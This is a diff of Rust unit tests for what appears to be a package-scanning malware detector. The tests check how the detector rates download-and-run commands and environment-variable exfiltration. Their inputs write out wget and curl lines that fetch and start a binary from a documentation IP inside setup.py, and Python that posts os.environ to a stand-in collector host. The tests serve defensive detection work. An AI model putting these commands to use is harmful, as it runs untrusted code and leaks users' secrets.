@@ -1608,3 +1608,64 @@ fn decoded_code_is_critical_when_the_package_carries_it_or_runs_it_unasked() {
     let at_import = "import base64\ndef load(s):\n    exec(base64.b64decode(s))\nload(open('cfg').read())\n";
     assert_eq!(severity_of("pkg/utils.py", at_import, "exec-decoded"), Some(Severity::Critical));
 }
+
+/// One command line that downloads a file and starts it is download and
+/// run by itself: at install time critical, in a function its caller calls
+/// high. A download that is not run, or a command that runs without
+/// downloading, is not. Written for the test.
+#[test]
+fn a_command_line_that_downloads_and_runs_is_download_then_run() {
+    let level_in = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "download-then-run").map(|f| f.severity)
+    };
+    let level = |src: &str| level_in("setup.py", src);
+    for cmd in [
+        "wget 203.0.113.9/agent && chmod +x agent && nohup ./agent &",
+        "curl -sL http://203.0.113.9/a -o /tmp/a; chmod 755 /tmp/a; /tmp/a",
+        "cmd /c curl -o %TEMP%\\\\u.exe http://203.0.113.9/u.exe && start %TEMP%\\\\u.exe",
+    ] {
+        let src = format!("import os\nfrom setuptools import setup\nos.system(\"{cmd}\")\nsetup(name='x')\n");
+        assert_eq!(level(&src), Some(Severity::Critical), "{src}");
+        // Built in a variable first, and started from a function a caller calls.
+        let asked =
+            format!("import subprocess\nCMD = \"{cmd}\"\ndef install():\n    subprocess.call(CMD, shell=True)\n");
+        assert_eq!(level_in("pkg/tool.py", &asked), Some(Severity::High), "{asked}");
+    }
+    for benign in [
+        "wget -q -O - http://203.0.113.9/version.txt",
+        "wget https://example.org/data.tar.gz && tar xzf data.tar.gz",
+        "chmod +x build.sh && ./build.sh",
+    ] {
+        let src = format!("import os\nos.system(\"{benign}\")\n");
+        assert_eq!(level(&src), None, "{src}");
+    }
+}
+
+/// A request to this machine's own address (a local model server it
+/// started) sends nothing off the computer: not exfiltration, whatever its
+/// arguments carry. The same request to an address elsewhere, or to one of
+/// two addresses of which one is elsewhere, stays critical. Written for the
+/// test.
+#[test]
+fn what_is_sent_to_this_machine_does_not_leave_it() {
+    let exfiltration = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    let local = "import os, requests\nenv = os.environ.copy()\nport = start(env)\n\
+                 base = f'http://localhost:{port}/v1'\nrequests.post(f'{base}/models', json=dict(os.environ))\n";
+    assert_eq!(exfiltration(local), None, "{local}");
+    let loopback_ip = "import os, requests\nrequests.post('http://127.0.0.1:8080/log', data=dict(os.environ))\n";
+    assert_eq!(exfiltration(loopback_ip), None);
+    let elsewhere = local.replace("http://localhost:{port}/v1", "https://collector.example.invalid/{port}");
+    assert_eq!(exfiltration(&elsewhere), Some(Severity::Critical), "{elsewhere}");
+    let either = local.replace(
+        "base = f'http://localhost:{port}/v1'",
+        "base = f'http://localhost:{port}/v1' if port else 'https://collector.example.invalid'",
+    );
+    assert_eq!(exfiltration(&either), Some(Severity::Critical), "{either}");
+    // A placeholder `0.0.0.0` is not this machine's address.
+    let placeholder = loopback_ip.replace("127.0.0.1", "0.0.0.0");
+    assert_eq!(exfiltration(&placeholder), Some(Severity::Critical));
+}
